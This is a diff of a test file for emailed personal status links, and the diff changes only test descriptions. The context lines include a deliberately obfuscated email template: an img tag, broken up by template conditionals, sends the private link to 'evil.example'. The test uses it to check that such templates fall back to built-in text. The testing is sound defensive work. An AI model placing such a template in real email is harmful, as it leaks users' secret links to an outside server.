@@ -151,7 +151,7 @@ describe('the link to the person’s own page', () => {
     expect(JSON.stringify(await newest(email))).toContain('/status/••••');
   });
 
-  it('is the same on every try, so that the first copy of a mail works too', async () => {
+  it('is the same on every attempt, so that the first copy of a mail works too', async () => {
     const email = 'twice@people.example';
     refuseFirst.add(email);
     await server.invoke('apply', applicationForm({ email, phone: undefined }));
@@ -189,7 +189,7 @@ describe('the link to the person’s own page', () => {
       'sends it to another server',
       `<{% if link == 'z' %} {% endif %}img alt=">" src="https:/{% if link == 'z' %} {% endif %}/evil.example/? {{ link }} "><p>{{ link }}</p>`,
     ],
-  ])('is sent with the built-in text where a template %s', async (_, text) => {
+  ])('is sent with the built-in text if a template %s', async (_, text) => {
     const [{ body }] = await rows(`select body from email_templates where key = 'person_link'`);
     await rows('alter table email_templates disable trigger check_template_secrets');
     await rows(
